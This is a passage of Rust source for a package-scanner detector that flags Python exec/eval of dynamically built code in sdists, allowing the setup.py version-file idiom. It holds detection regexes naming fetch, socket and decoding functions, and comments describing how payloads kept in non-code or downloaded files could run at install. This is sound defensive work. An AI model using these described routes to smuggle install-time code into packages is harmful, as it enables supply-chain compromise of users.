//! `execution.dynamic-code`: `exec`/`eval`/`compile` of built values (names,
//! calls, concatenations, f-strings) — code nobody can read in the package.
//!
//! Quiet for: literal arguments (`eval("1+1")`), method calls (`model.eval()`,
//! `re.compile(…)`), `ast.literal_eval`, strings/comments/docstrings, tests and
//! docs. Low for setup.py reading its own version or about file and running it, in any
//! spelling. The rule: the text run is the content of a file inside the sdist's own tree,
//! read by path, with no fetch, decoder or input between the read and the exec. So `exec`/
//! `eval` of a read (`open`/`io.open`/`codecs.open(<path>).read()`, pathlib `read_text()` or
//! `.open().read()`, `with open(…) as f: exec(f.read(), ns)`, `compile(<read>, path, "exec")`,
//! Python 2's `execfile(<path>)` and `exec <read> in ns`), of a literal parsed from a line of
//! one (`line.split("=")[1]`, `line[13:]`, `re.search(…).group(1)`, a match object's group
//! when the match searched such a line with a literal or literal-compiled pattern, chosen lines), through
//! variables assigned the read and read helpers of the module (`def read(*parts)`, a
//! `lambda`) — unless the module downloads, the argument (or the helper) decodes, unpacks
//! or reads input, the path names a place outside the tree (an absolute, home, temp,
//! environment or parent path, also through the names the path uses: `here =
//! tempfile.gettempdir()`), the module writes the same file itself, or the argument (or a
//! name it uses, one assignment deep) names a file that holds no Python code (`docs/notes.md`,
//! a JSON data file, a `setup.cfg.in` template: [`names_a_non_code_file`]; inside `with <open>
//! as f:` the name is that file, not an older `f = open("README.md")` the block rebinds) — such a member's
//! text is judged by no detector as install-time code, so running it would hand a payload kept
//! there to install time.
//! Code in a setup.py command pip never runs ([`super::context::in_maintainer_command`],
//! [`super::context::in_argv_command`]) is Medium, as at run time: it does not run at install.
//! Running a file by path (`runpy.run_path`, `imp.load_source`, `SourceFileLoader`,
//! `spec_from_file_location` then `exec_module`) is judged like `execfile`: the package's own
//! file is not reported; a path outside the tree, from a fetch or input, or a file the module
//! downloaded (or wrote from decoded bytes) is reported like built code (High at install time);
//! a path that leaves the tree only by a parent directory (a monorepo's shared helper beside the
//! package: `os.path.join(here, "..", "core", …)`) is Medium.
//! `compile(…, ast.PyCF_ONLY_AST)` only parses (`ast.parse`) and is not reported. Decoded payloads fed to exec are `obfuscation.decode-exec`'s job; this
//! detector still reports the call.
//! The per-name lookups behind these judgements (top-level statements, assignments, the values
//! reaching a use, path judgements, the module's writes, whether it fetches) go through a per-member index
//! ([`MemberIndex`]) built lazily during one `scan_text` call, so a member of thousands of
//! opens and execs costs linear time; it changes no result (tested equal).

use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::cell::RefCell;
use std::collections::HashMap;
use std::rc::Rc;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "execution.dynamic-code",
    revision: 15,
    title: "Executes dynamically built code.",
    category: Category::Execution,
    severity: Severity::Medium,
    description:
        "exec/eval of values built at run time runs code that is not visible in the package and cannot be reviewed.",
};

const CALL_PATTERN: &str = r"(?m)(?:^|[^.\w])(?P<name>exec|eval|compile|execfile)\s*\(|(?-u:\b)(?P<bname>(?:builtins|__builtins__)\.(?:exec|eval|compile))\s*\(|^[ \t]*(?P<py2>exec)[ \t]+[A-Za-z_(]";
static CALL: LazyLock<Regex> = LazyLock::new(|| Regex::new(CALL_PATTERN).expect("call"));
/// [`CALL`] for anchored searches at [`call_starts`].
static CALL_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(CALL_PATTERN).expect("call"));
static DEF: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"def\s+$").expect("def"));

/// Whether the call's argument list (starting right after `(`) is a single literal.
fn literal_argument(src: &Source<'_>, after_paren: usize) -> bool {
    let t = src.text.as_bytes();
    let mut i = after_paren;
    while i < t.len() && t[i].is_ascii_whitespace() {
        i += 1;
    }
    if i >= t.len() {
        return true;
    }
    if t[i] == b')' {
        return true; // no argument: `eval()` is a method-like call, nothing built.
    }
    match src.span_at(i) {
        Some(sp) if sp.start == i && !sp.fstring => {
            let mut j = sp.end;
            while j < t.len() && t[j].is_ascii_whitespace() {
                j += 1;
            }
            j < t.len() && matches!(t[j], b')' | b',')
        }
        _ => false,
    }
}

/// Anything in an exec argument that fetches, decodes or unpacks: never a plain file read.
static NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|getresponse|b64|base64|b32|b85|a85|decode|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|codecs|rot13|join|\+|%|\[|input\(|stdin|environ|getenv|argv|{OUTSIDE}"))
        .expect("not local")
});

/// What a path expression may not do: fetch, decode, unpack or read input (path building
/// with `join`, `+`, `%`, `/` and indexing is fine there).
static PATH_NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|getresponse|b64|base64|b32|b85|a85|decode|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|rot13|input\(|stdin|environ|getenv|argv|{OUTSIDE}"))
        .expect("path not local")
});
/// A literal parsed out of a line: `line.split("=")[1].strip()`, `line.split()[-1]`,
/// `line.split(None, 2)[2]`, `l.partition("=")[2]`,
/// `re.search(…).group(1)` (strings already blanked).
static PARSED_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:\w+\[\s*(?:\d+|len\(\s*''\s*\))\s*:\s*(?:-\s*\d+\s*)?\]|[\w.]+\.(?:split|rsplit|partition|rpartition)\(\s*(?:(?:''|None)\s*(?:,\s*(?:maxsplit\s*=\s*)?\d+\s*)?)?\)\s*\[\s*-?\d+\s*\]|(?:re\.)?(?:search|match|fullmatch)\([^()]*(?:\([^()]*\)[^()]*)*\)\.group\(\s*\d?\s*\))(?:\.strip\(\s*(?:'')?\s*\))*$")
        .expect("parsed literal")
});

/// Places outside the sdist's own tree, as code names them once strings are blanked by
/// [`blank_strings`]: a literal that is an absolute, home, environment or parent path
/// (`OUTSIDE_TREE`), the home and temporary directories, the interpreter's own directories.
/// A file read from there is not the package's own file: another program (or this one,
/// earlier) put it there.
const OUTSIDE: &str = r"OUTSIDE_TREE|expanduser|expandvars|gettempdir|gettempprefix|tempfile|mkdtemp|mkstemp|\bhome\(|getuserbase|usersitepackages|getsitepackages|sys\.prefix|exec_prefix|base_prefix|sysconfig";

/// A string literal naming a place outside the sdist's tree: an absolute path (`/tmp/x`,
/// `C:\\x`, `\\\\host`), the home directory (`~`), an environment variable (`%APPDATA%`,
/// `$HOME`), or a parent directory (`..`, `../x`, `x/../y`).
static OUTSIDE_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^['"](?:/[^/'"]|~|[A-Za-z]:[\\/]|\\\\|%\w+%|\$\{?\w)|(?:^['"]|[\\/])\.\.(?:[\\/]|['"]$)"#)
        .expect("outside literal")
});

/// Strings blanked to `''` so that code is judged, not text; a literal that names a place
/// outside the sdist's tree ([`OUTSIDE_LITERAL`]) becomes `OUTSIDE_TREE` instead.
fn blank_strings(s: &str) -> std::borrow::Cow<'_, str> {
    STRING.replace_all(s, |c: &regex::Captures<'_>| if OUTSIDE_LITERAL.is_match(&c[0]) { "OUTSIDE_TREE" } else { "''" })
}

static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(?:urlopen|urlretrieve|requests\.(?:get|request|Session)|httpx\.(?:get|stream|Client)|urllib3\.PoolManager|HTTPS?Connection|wget\.download|socket\.create_connection)\s*\(")
        .expect("fetches")
});
/// `FETCHES.is_match(text)`: searched once per member when `text` is the member the index
/// was entered for (each judged `exec` asked it again over the whole member).
fn module_fetches(text: &str) -> bool {
    match MemberIndex::of(text) {
        Some(ix) => *ix.fetches.get_or_init(|| FETCHES.is_match(text)),
        None => FETCHES.is_match(text),
    }
}
static STRING: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#""[^"\n]*"|'[^'\n]*'"#).expect("string"));
/// A comment, once strings are blanked.
static COMMENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"#[^\n]*").expect("comment"));

/// The argument list of a call whose `(` ends at `after_paren`, up to the matching `)`.
fn argument_text(text: &str, after_paren: usize) -> Option<&str> {
    let mut depth = 1usize;
    for (i, ch) in text[after_paren..].char_indices().take(400) {
        match ch {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(&text[after_paren..after_paren + i]);
                }
            }
            _ => {}
        }
    }
    None
}

/// `exec(open("pkg/_version.py").read())`, `exec(fp.read(), ns)` with `fp` from
/// `open(…)`, `exec((root / "pkg" / "version.py").read_text())`: the classic setup.py
/// version-reading idiom runs a file that ships in the package, readable by anyone.
/// Also through `compile(<read>, path, "exec")`, a variable assigned a read (`code =
/// f.read()`, `for line in f:`) or a helper of the module that reads a file (`def read(*parts):
/// return open(os.path.join(here, *parts)).read()`).
fn exec_of_local_file(text: &str, after_paren: usize) -> bool {
    argument_text(text, after_paren).is_some_and(|args| exec_arguments_read_local_file(text, args, after_paren))
}

/// Python 2's `exec open("pkg/version.py").read() in ns`: the statement's code (up to ` in `
/// and its namespace) judged like the call's argument.
fn exec_statement_of_local_file(text: &str, after_exec: usize) -> bool {
    let line = logical_line(text, after_exec);
    let code = match line.rfind(" in ") {
        Some(i) if !line[i..].contains(['(', '[', '"', '\'']) => &line[..i],
        _ => line.as_str(),
    };
    exec_arguments_read_local_file(text, code.trim(), after_exec)
}

/// Whether exec's arguments `args` (unblanked), at byte `at`, run a file of the package read
/// by path: see [`exec_of_local_file`].
fn exec_arguments_read_local_file(text: &str, args: &str, at: usize) -> bool {
    // A module that also downloads may be running what it saved: no idiom then.
    if module_fetches(text) {
        return false;
    }
    // Judge the code, not path names in it (`"src/websockets/version.py"`) nor comments
    // between the arguments (`exec(  # pylint: disable=exec-used`).
    // `.decode("utf-8")` of what was read is text decoding; any other codec (Python 2's
    // `.decode("base64")`, `"rot13"`, `"zlib"`) unpacks a payload.
    if args.contains(".decode(") && !TEXT_DECODES.find_iter(args).count().eq(&args.matches(".decode(").count()) {
        return false;
    }
    // What is read first, then whether the module wrote it or it names a non-code file: each
    // is a pure test of the member, so the order does not change the answer, and most calls
    // (`eval(expr, globalns)`) read no file, where the two other tests looked up every name of
    // the arguments.
    let blanked = blank_strings(args);
    let code = COMMENT.replace_all(&blanked, "");
    reads_local_file(first_argument(&code).trim(), text, at, 0)
        && !written_by_module(text, args)
        && !names_a_non_code_file(text, args, Some(at))
}

/// Extensions of files that hold no Python code: documents, data, configuration, templates,
/// images, archives and binaries. A package's text in such a member is judged by no detector as
/// code that runs at install (it is docs or data), so exec of it is not the version idiom.
static NON_CODE_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)^[^\s]*[\w-]\.(?:md|markdown|rst|txt|text|json|jsonl|ya?ml|toml|cfg|ini|in|conf|csv|tsv|xml|html?|css|js|svg|tmpl|tpl|template|j2|jinja2?|log|lock|dat|bin|png|jpe?g|gif|bmp|ico|tiff?|webp|wav|mp3|ogg|pkl|pickle|npy|npz|db|sqlite|so|dll|dylib|exe|pyc|pyo|gz|bz2|xz|zip|tar|whl|egg)$")
        .expect("non-code file")
});

/// Whether exec's arguments `args` (unblanked), or the lines assigning the names they use (one
/// level), name a file that holds no Python code ([`NON_CODE_FILE`]): running such a member's
/// text hands whatever it holds to install time (a payload kept in `docs/notes.md`, a JSON data
/// file, a `setup.cfg.in` template), whatever the spelling of the read.
fn names_a_non_code_file(text: &str, args: &str, at: Option<usize>) -> bool {
    let literal_names =
        |piece: &str| STRING.find_iter(piece).any(|m| NON_CODE_FILE.is_match(m.as_str().trim_matches(['"', '\''])));
    if literal_names(args) {
        return true;
    }
    let blanked = blank_strings(args);
    PATH_NAME
        .captures_iter(&blanked)
        .filter_map(|c| c.name("n"))
        .map(|n| n.as_str())
        .filter(|n| ascii_word(n))
        .take(16)
        .any(|n| {
            // Inside `with <open> as n:` (n not rebound in the block before `at`), n is that
            // file: an older binding of the same name (`f = open("README.md")`) is not it.
            if let Some(w) = at.and_then(|at| enclosing_with_binding(text, n, at)) {
                return literal_names(&logical_line(text, w));
            }
            assignments(text, n).iter().take(8).any(|a| literal_names(&logical_line(text, a.start)))
        })
}

/// How far back [`enclosing_with_binding`] looks for the `with` (bytes): a constant, so a file of
/// many execs costs linear time.
const WITH_LOOKBACK: usize = 8192;

/// The start of the `with … as name:` line whose block holds byte `at`, when no line between it
/// and `at` binds `name` again (`name = …`, `for name in`, another `as name`): the binding that
/// decides what `name` is at `at`. Looks back at most [`WITH_LOOKBACK`] bytes.
fn enclosing_with_binding(text: &str, name: &str, at: usize) -> Option<usize> {
    let indent = |l: &str| l.len() - l.trim_start_matches([' ', '\t']).len();
    let at = pysrc::floor_char(text, at.min(text.len()));
    let floor = pysrc::floor_char(text, at.saturating_sub(WITH_LOOKBACK));
    let line_start = text[..at].rfind('\n').map_or(0, |i| i + 1);
    let mut level = indent(&text[line_start..at]);
    let as_name = |l: &str| {
        l.match_indices(" as ").any(|(i, _)| {
            let r = l[i + 4..].trim_start();
            r.strip_prefix(name).is_some_and(|r| r.trim_start().starts_with([':', ',', ')']))
        })
    };
    let mut end = line_start;
    while end > floor && level > 0 {
        let start = text[..end - 1].rfind('\n').map_or(0, |i| i + 1);
        let line = &text[start..end - 1];
        end = start;
        let trimmed = line.trim_start_matches([' ', '\t']);
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let rebinds = as_name(line)
            || trimmed.strip_prefix("for ").is_some_and(|r| r.trim_start().starts_with(name))
            || binds_before_eq(line.as_bytes(), name);
        if indent(line) < level {
            level = indent(line);
            if trimmed.starts_with("with ") && as_name(line) {
                return Some(start);
            }
        }
        if rebinds {
            return None;
        }
    }
    None
}

/// `.decode()` with no codec or a text encoding.
static TEXT_DECODES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\.decode\(\s*(?:(?:encoding\s*=\s*)?['"](?:utf-?8(?:-sig)?|ascii|latin-?1|iso-8859-1|cp1252)['"]\s*)?\)"#)
        .expect("text decodes")
});

/// What text methods leave a read file's content as it was, for judging where it came from:
/// line-ending normalisation (`.replace("\r\n", "\n")`, literals only), `.strip()`, and a
/// text `.decode(…)` (its codec checked on the unblanked call by [`exec_of_local_file`]).
fn without_text_methods(mut expr: &str) -> &str {
    loop {
        let before = expr;
        for suffix in [".replace('', '')", ".strip()", ".decode('')", ".decode()"] {
            expr = expr.strip_suffix(suffix).unwrap_or(expr).trim_end();
        }
        if expr == before {
            return expr;
        }
    }
}

/// Whether `expr` (strings blanked), used at byte `at`, only reads a file of the package: see
/// [`exec_of_local_file`]. `depth` bounds how many variables and helpers are followed.
fn reads_local_file(expr: &str, text: &str, at: usize, depth: u8) -> bool {
    let expr = without_text_methods(expr.trim());
    // `compile(<source>, path, "exec")`: judged by its source.
    if let Some(inner) = expr.strip_prefix("compile(").and_then(|r| r.strip_suffix(')')) {
        return reads_local_file(first_argument(inner), text, at, depth);
    }
    if let Some(rest) = without_path_expression(expr) {
        return !NOT_LOCAL.is_match(&rest) && path_names_local(expr, text, at, 0);
    }
    // `cfg_path.open("r").read()`: a pathlib path opened, in a module that uses pathlib and
    // opens no archive (`ZipFile.open(member)` has the same shape).
    if let Some((path, _)) =
        expr.strip_suffix(".read()").and_then(|b| b.strip_suffix(')')).and_then(|b| b.rsplit_once(".open("))
    {
        let pathlib = text.contains("Path(") && !ARCHIVES.is_match(text);
        return pathlib
            && !path.is_empty()
            && path.chars().all(|c| c.is_alphanumeric() || "_./ '".contains(c))
            && path_names_local(path, text, at, 0);
    }
    let ident = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_alphanumeric() || c == '_');
    // `"\n".join(line for line in f if line.startswith("VERSION"))`: chosen lines of a read file;
    // `next(line for line in f if …)`: the first chosen line.
    if let Some(c) = expr
        .strip_prefix("''.join(")
        .or_else(|| expr.strip_prefix("next("))
        .and_then(|r| r.strip_suffix(')'))
        .and_then(|g| JOINED_LINES.captures(g))
    {
        let (item, var, iterable) = (&c["item"], &c["var"], c["iter"].trim());
        let filter_ok = c.name("cond").is_none_or(|f| !PATH_NOT_LOCAL.is_match(f.as_str()));
        let iterable = iterable.strip_suffix(".readlines()").unwrap_or(iterable);
        let reads = if ident(iterable) {
            opened_in_module(text, iterable, at)
        } else {
            reads_local_file(iterable, text, at, depth)
        };
        return (item == var || item.starts_with(&format!("{var}."))) && filter_ok && reads;
    }
    // `[line for line in f if line.startswith("VERSION")][0]`,
    // `list(filter(lambda line: line.startswith("VERSION"), open(p)))[0]`: one chosen line.
    if let Some(chosen) = INDEXED.captures(expr).map(|c| c.get(1).expect("group").as_str().trim()) {
        if chosen.starts_with('[') && chosen.ends_with(']') {
            if let Some(c) = JOINED_LINES.captures(chosen) {
                let (item, var) = (&c["item"], &c["var"]);
                let cond = c.name("cond").map(|m| m.as_str());
                return (item == var || item.starts_with(&format!("{var}.")))
                    && chosen_lines_read_local_file(var, cond, c["iter"].trim(), text, at, depth);
            }
            return false;
        }
        let Some(lambda) = ["list(filter(lambda ", "tuple(filter(lambda "]
            .iter()
            .find_map(|p| chosen.strip_prefix(p))
            .and_then(|r| r.strip_suffix("))"))
        else {
            return false;
        };
        let Some((var, rest)) = lambda.split_once(':') else {
            return false;
        };
        let (cond, iterable) = split_last_argument(rest);
        return ident(var.trim()) && chosen_lines_read_local_file(var.trim(), Some(cond), iterable, text, at, depth);
    }
    // `name.read()`: `name` must be a file opened in this module.
    if let Some(name) = expr.strip_suffix(".read()") {
        return ident(name) && opened_in_module(text, name, at);
    }
    if depth >= 2 {
        return false;
    }
    // A variable: every value that can reach `at` reads a file of the package.
    if ident(expr) {
        let mut values = assigned_values(text, expr, at);
        // `source = source.replace("\r\n", "\n")` transforms the same value: judged by the others.
        values.retain(|(v, _)| without_text_methods(v) != expr);
        return !values.is_empty() && values.iter().all(|(v, o)| reads_local_file(v, text, *o, depth + 1));
    }
    // A helper of this module: `read("pkg", "version.py")` with `def read(*parts): …`. Both
    // tests are pure; the helper's (one def or lambda looked up) goes first, as most calls are
    // of no helper that reads a file, and following the arguments' names looks up every name's
    // assignments, two deep.
    if let Some((func, args)) = expr.strip_suffix(')').and_then(|e| e.split_once('(')) {
        return ident(func) && helper_reads_local_file(text, func) && path_names_local(args, text, at, 0);
    }
    false
}

/// Whether lines `var` of `iterable`, kept by `cond`, come from a file of the package: the
/// condition names no input, fetch or decode, and the iterable is a file opened in the module or
/// a read of one.
fn chosen_lines_read_local_file(
    var: &str,
    cond: Option<&str>,
    iterable: &str,
    text: &str,
    at: usize,
    depth: u8,
) -> bool {
    let ident = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_alphanumeric() || c == '_');
    let iterable = iterable.trim();
    // The lines of a text: `f.readlines()`, `text.splitlines()`, `read(p).split('')`.
    let iterable = [".readlines()", ".splitlines()", ".split('')", ".split()"]
        .iter()
        .find_map(|x| iterable.strip_suffix(x))
        .unwrap_or(iterable);
    let reads = if ident(iterable) {
        opened_in_module(text, iterable, at)
    } else if ["open(", "io.open(", "codecs.open("].iter().any(|p| iterable.starts_with(p)) && iterable.ends_with(')') {
        reads_local_file(&format!("{iterable}.read()"), text, at, depth)
    } else {
        reads_local_file(iterable, text, at, depth)
    };
    ident(var) && cond.is_none_or(|f| !PATH_NOT_LOCAL.is_match(f)) && reads
}

/// Archive readers, whose `.open(member)` looks like a path's `.open(mode)`.
static ARCHIVES: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)zipfile|tarfile|ZipFile|TarFile|py7zr|rarfile").expect("archives"));

/// `(rest)[N]`: an expression indexed by a literal number.
static INDEXED: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"^(.+)\[\s*-?\d+\s*\]$").expect("indexed"));

/// `cond, iterable` of a call's arguments: split at the last comma outside brackets.
fn split_last_argument(args: &str) -> (&str, &str) {
    let mut depth = 0i32;
    let mut last = None;
    for (i, ch) in args.char_indices() {
        match ch {
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' => depth -= 1,
            ',' if depth == 0 => last = Some(i),
            _ => {}
        }
    }
    match last {
        Some(i) => (args[..i].trim(), args[i + 1..].trim()),
        None => (args.trim(), ""),
    }
}

/// The generator inside `''.join(…)` (strings blanked): `item for var in iter [if cond]`.
static JOINED_LINES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\[?\s*(?P<item>[\w.()]+?)\s+for\s+(?P<var>\w+)\s+in\s+(?P<iter>.+?)(?:\s+if\s+(?P<cond>.+?))?\s*\]?$")
        .expect("joined lines")
});

/// `with open(…) as name:` (also `io.open`, `codecs.open`, a path's `.open()`, the call
/// spanning lines) or `name = open(…)` in `text`, every such open that can reach the use at
/// byte `at` (as [`assigned_values`]: in the use's own top-level statement, or module-level
/// code; another function's `f` is another variable) of a path inside the sdist's tree as far
/// as the module shows ([`path_names_local`]).
fn opened_in_module(text: &str, name: &str, at: usize) -> bool {
    let scope = top_statement_start(text, at);
    // `with open(` is matched alone and its arguments taken up to the matching `)`: a lazy
    // `open\((.*?)\) as name` would run from an earlier `with open(…) as f:` across its body to
    // this one, and judge the text between them as the path.
    // A name the patterns cannot hold searches nothing (as when each search compiled them).
    if !ascii_word(name) && [opens_pattern(name), closes_as_pattern(name)].iter().any(|p| Regex::new(p).is_err()) {
        return false;
    }
    let mut opens = 0;
    for (start, end, with) in opens_of(text, name) {
        let Some(args) = argument_text(text, end) else { continue };
        if with && !closes_as(&text[end + args.len()..], name) {
            continue; // `with open(…) as other:`
        }
        if !reaches(text, scope, start) {
            continue;
        }
        if written_by_module(text, args) || !path_names_local(&blank_strings(args), text, start, 0) {
            return false;
        }
        opens += 1;
    }
    opens > 0
}

/// `with open(` (also `with io.open(`, `with p.open(`): the first alternative of [`opens_pattern`].
static WITH_OPEN: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"with\s+(?:[\w.]*\.)?open\s*\(").expect("with open"));

/// The per-name pattern of [`opens_of`]: `with open(`, or `name = open(`.
fn opens_pattern(name: &str) -> String {
    format!(r"(?:(?P<with>with\s+(?:[\w.]*\.)?open\s*\()|(?-u:\b){name}\s*=\s*(?:io\.|codecs\.)?open\s*\()")
}

/// Every match of [`opens_pattern`]`(name)` over `text`, in order: (start, end, whether it is
/// the `with`). Without compiling a regex per call: the matches of the static [`WITH_OPEN`]
/// and the occurrences of `name` that bind an `open(` are merged, the leftmost first, each
/// searched from the end of the previous match. For a name spelled in ASCII word characters
/// other than `with`, the two alternatives never match at one start (the `with` needs a blank
/// after its fourth letter, the name a word character or the name's end there), and an
/// occurrence inside another's match cannot match (a word byte before it). Else the pattern.
/// Tested equal.
fn opens_of(text: &str, name: &str) -> Vec<(usize, usize, bool)> {
    if !ascii_word(name) || name == "with" {
        return opens_of_by_pattern(text, name);
    }
    let b = text.as_bytes();
    let binds = |p: usize| -> Option<usize> {
        if p > 0 && (b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_') {
            return None;
        }
        let rest = text[p + name.len()..].trim_start_matches(char::is_whitespace);
        let rest = rest.strip_prefix('=')?.trim_start_matches(char::is_whitespace);
        let rest = rest.strip_prefix("io.").or_else(|| rest.strip_prefix("codecs.")).unwrap_or(rest);
        let rest = rest.strip_prefix("open")?.trim_start_matches(char::is_whitespace);
        rest.strip_prefix('(').map(|r| text.len() - r.len())
    };
    let mut names = memchr::memmem::find_iter(b, name.as_bytes()).filter_map(|p| binds(p).map(|e| (p, e))).peekable();
    let mut out = Vec::new();
    let mut pos = 0;
    let mut with = WITH_OPEN.find_at(text, 0);
    loop {
        while names.peek().is_some_and(|&(p, _)| p < pos) {
            names.next();
        }
        if with.is_some_and(|m| m.start() < pos) {
            with = WITH_OPEN.find_at(text, pos);
        }
        let next = match (with, names.peek()) {
            (Some(w), Some(&(p, e))) if p < w.start() => (p, e, false),
            (Some(w), _) => (w.start(), w.end(), true),
            (None, Some(&(p, e))) => (p, e, false),
            (None, None) => break,
        };
        out.push(next);
        pos = next.1;
    }
    out
}

/// [`opens_of`] by compiling [`opens_pattern`]`(name)` and searching the whole text.
fn opens_of_by_pattern(text: &str, name: &str) -> Vec<(usize, usize, bool)> {
    let Ok(re) = Regex::new(&opens_pattern(name)) else { return Vec::new() };
    re.captures_iter(text)
        .map(|c| {
            let m = c.get(0).expect("match");
            (m.start(), m.end(), c.name("with").is_some())
        })
        .collect()
}

/// The per-name pattern of [`closes_as`].
fn closes_as_pattern(name: &str) -> String {
    format!(r"^\)\s+as\s+{name}\s*[:,]")
}

/// Whether `rest` matches [`closes_as_pattern`]`(name)`: `) as name:` after a `with open(…`,
/// without compiling it for a name spelled in ASCII word characters. Tested equal.
fn closes_as(rest: &str, name: &str) -> bool {
    if !ascii_word(name) {
        return Regex::new(&closes_as_pattern(name)).is_ok_and(|re| re.is_match(rest));
    }
    let ws = |s: &str| s.trim_start_matches(char::is_whitespace).len();
    let Some(r) = rest.strip_prefix(')') else { return false };
    let Some(r) = (ws(r) < r.len()).then(|| r.trim_start_matches(char::is_whitespace)) else { return false };
    let Some(r) = r.strip_prefix("as") else { return false };
    let Some(r) = (ws(r) < r.len()).then(|| r.trim_start_matches(char::is_whitespace)) else { return false };
    let Some(r) = r.strip_prefix(name) else { return false };
    r.trim_start_matches(char::is_whitespace).starts_with([':', ','])
}

/// A name in code (strings blanked) that is neither an attribute (`.path`), a call
/// (`join(`) nor a keyword argument (`encoding=`).
static PATH_NAME: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:^|[^.\w])(?P<n>[A-Za-z_]\w*)\s*(?P<next>\(|=[^=]|)").expect("path name"));

/// Whether a path expression (strings blanked), used at byte `at`, stays inside the sdist's
/// tree as far as the module shows: it names no place outside it ([`OUTSIDE`]) and fetches,
/// decodes or reads input nowhere ([`PATH_NOT_LOCAL`]), and neither does any value the module
/// assigns a name it uses (`here = tempfile.gettempdir()`), followed two names deep.
/// Parameters and names the module never assigns (imports, `__file__`) are judged by the
/// expression alone.
fn path_names_local(path: &str, text: &str, at: usize, depth: u8) -> bool {
    let Some(ix) = MemberIndex::of(text) else { return path_names_local_unindexed(path, text, at, depth) };
    let key = (path.to_string(), scope_key(text, at), depth);
    if let Some(&known) = ix.local_paths.borrow().get(&key) {
        return known;
    }
    let judged = path_names_local_unindexed(path, text, at, depth);
    ix.remember(&ix.local_paths, key, judged);
    judged
}

/// [`path_names_local`] without the member's index.
fn path_names_local_unindexed(path: &str, text: &str, at: usize, depth: u8) -> bool {
    if PATH_NOT_LOCAL.is_match(path) {
        return false;
    }
    if depth >= 2 {
        return true;
    }
    PATH_NAME.captures_iter(path).filter(|c| c["next"].is_empty()).all(|c| {
        let name = &c["n"];
        matches!(name, "None" | "True" | "False" | "__file__" | "os" | "sys" | "Path" | "pathlib")
            || assigned_values(text, name, at).iter().all(|(v, o)| path_names_local(v, text, *o, depth + 1))
    })
}

/// Whether a binding at byte `off` can reach a use whose top-level statement starts at
/// `scope`: it is in that same statement, or in module-level code (not another function's or
/// class's body, whose names are other variables).
fn reaches(text: &str, scope: usize, off: usize) -> bool {
    let top = top_statement_start(text, off);
    top == scope || !["def ", "async ", "class "].iter().any(|k| text[top..].starts_with(k))
}

/// What the module assigns to `name` that can reach the use at byte `at` (strings blanked,
/// one line each, with the assignment's offset): `name = <value>`, and for `for name in
/// <value>:` the value iterated (lines of a file: `f`, `f.readlines()`,
/// `open(p).read().splitlines()`). Reaching: assignments in the use's own top-level
/// statement (its function or class, or its `try`/`with`/`if` block) and those in module-level
/// code; another function's local of the same name is another variable.
fn assigned_values(text: &str, name: &str, at: usize) -> Vec<(String, usize)> {
    let Some(ix) = MemberIndex::of(text) else { return assigned_values_unindexed(text, name, at) };
    let key = (name.to_string(), scope_key(text, at));
    if let Some(known) = ix.values.borrow().get(&key) {
        return known.to_vec();
    }
    let values = assigned_values_unindexed(text, name, at);
    ix.remember(&ix.values, key, values.clone().into());
    values
}

/// [`assigned_values`] without the member's index.
fn assigned_values_unindexed(text: &str, name: &str, at: usize) -> Vec<(String, usize)> {
    let scope = top_statement_start(text, at);
    assignments(text, name)
        .iter()
        .filter(|a| reaches(text, scope, a.start))
        .filter_map(|a| {
            let o = a.start;
            if let Some(v) = a.value {
                let v = logical_line(text, v);
                // `    version='1.0',` inside a call spanning lines is a keyword argument.
                if v.trim_end().ends_with(',') {
                    return None;
                }
                return Some((blank_strings(v.trim()).into_owned(), o));
            }
            let (s, e) = a.iterated?;
            let it = blank_strings(text[s..e].trim()).into_owned();
            let it = it.strip_suffix(".readlines()").or_else(|| it.strip_suffix(".splitlines()")).unwrap_or(&it);
            // Iterating a file object yields its lines: `for line in f:` and `for line in
            // open(p):` read like `f.read()`.
            let ident = it.chars().all(|c| c.is_alphanumeric() || c == '_');
            let opened = ["open(", "io.open(", "codecs.open("].iter().any(|p| it.starts_with(p)) && it.ends_with(')');
            Some((if ident || opened { format!("{it}.read()") } else { it.to_string() }, o))
        })
        .collect()
}

/// One match of the assignment pattern of [`assigned_values`]: where its line starts, and where
/// the assigned value starts (`name = <value>`) or the iterated expression's range (`for name in
/// <it>:`).
#[derive(Debug, PartialEq, Eq)]
struct Assignment {
    start: usize,
    value: Option<usize>,
    iterated: Option<(usize, usize)>,
}

/// `name = <value>` or `for name in <it>:` at a line start, any name (the name is checked after):
/// see [`assignments`].
static ASSIGNED_LINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
